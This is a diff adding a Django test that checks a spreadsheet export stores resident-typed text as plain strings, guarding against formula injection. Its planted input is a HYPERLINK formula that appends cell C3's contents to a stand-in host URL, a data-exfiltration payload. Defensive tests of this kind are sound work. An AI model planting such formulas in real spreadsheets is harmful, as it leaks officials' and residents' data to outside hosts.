@@ -222,3 +222,14 @@ def test_it_exports_in_a_fixed_number_of_queries(
     with django_assert_num_queries(len(small.captured_queries)):
         rows = sheet(client.get(EXPORT))
     assert len(rows) == 2 + 32
+
+
+def test_it_never_turns_what_a_resident_typed_into_a_formula(as_user, county_officer, grid_a):
+    """Spreadsheet injection: a resident's "=HYPERLINK(…)" must reach the decider's file as text."""
+    planted = '=HYPERLINK("http://example.invalid/?"&C3,"详情")'
+    file_report(grid=grid_a, subject_name=planted, what=planted)
+    response = as_user(county_officer).get(EXPORT)
+    workbook = load_workbook(io.BytesIO(response.content))
+    cells = [cell for row in workbook.active.iter_rows(min_row=3) for cell in row if cell.value == planted]
+    assert len(cells) == 2
+    assert all(cell.data_type == "s" for cell in cells)
